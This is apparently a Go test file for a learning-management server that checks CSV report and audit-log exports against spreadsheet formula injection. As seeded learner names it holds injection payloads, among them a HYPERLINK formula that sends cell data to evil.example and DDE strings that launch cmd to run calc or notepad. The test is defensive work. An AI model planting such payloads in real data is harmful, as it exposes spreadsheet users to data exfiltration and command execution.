package server_test

import (
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/upward-lms/upward/internal/fixture"
)

// formulas are names a spreadsheet would run, opening a CSV export.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", `=cmd|' /C notepad'!'A1'`}

// TestCSVExports_NeutraliseFormulas puts people with formula names in every
// report and the audit log, and reads each CSV: no cell starts as a
// formula, and each name is there, neutralised.
func TestCSVExports_NeutraliseFormulas(t *testing.T) {
	t.Parallel()
	var learner string
	s, acme, _ := twoPortals(t, withExample, func(acme, _ *fixture.Spec) {
		for i, name := range formulas {
			learner = "f" + strconv.Itoa(i) + "@acme.test"
			acme.People = append(acme.People, fixture.Person{Email: learner, Name: name})
			acme.Progress = append(acme.Progress, fixture.Progress{Who: learner, Course: fixture.ExampleSlug})
		}
		acme.People = append(acme.People, bossOfAcme)
	})
	rec, learnerID := acme.Courses[fixture.ExampleSlug], acme.Person(t, learner).ID
	admin := adminClient(t, s)
	// The administrator's own name is the actor in the audit log.
	admin.get("/account")
	admin.post("/account/profile", map[string][]string{"name": {formulas[0]}, "time_zone": {"Europe/Paris"}})
	admin.get("/admin/users")
	admin.post("/admin/users/invite", map[string][]string{"name": {formulas[3]}, "email": {"invited@acme.test"}, "roles": {"learner"}})

	course, learner := "/admin/reports/courses/"+strconv.FormatInt(rec.ID, 10), "/admin/reports/learners/"+strconv.FormatInt(learnerID, 10)
	seen := map[string]bool{}
	for _, path := range []string{"/admin/reports/summary.csv", "/admin/reports/completions.csv", "/admin/reports/states.csv", "/admin/reports/courses.csv",
		course + "/summary.csv", course + "/learners.csv", course + "/questions.csv", learner + "/courses.csv", learner + "/quizzes.csv", "/admin/audit.csv"} {
		res, _, records := readCSV(t, admin, path)
		if res.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", path, res.StatusCode)
			continue
		}
		for _, row := range records {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", path, cell)
				}
				seen[cell] = true
			}
		}
	}
	for _, name := range formulas {
		name = strings.TrimSpace(name) // a name is saved trimmed: its leading tab or CR is gone
		if !seen["'"+name] {
			t.Errorf("no export shows %q as text ('%s)", name, name)
		}
	}
}
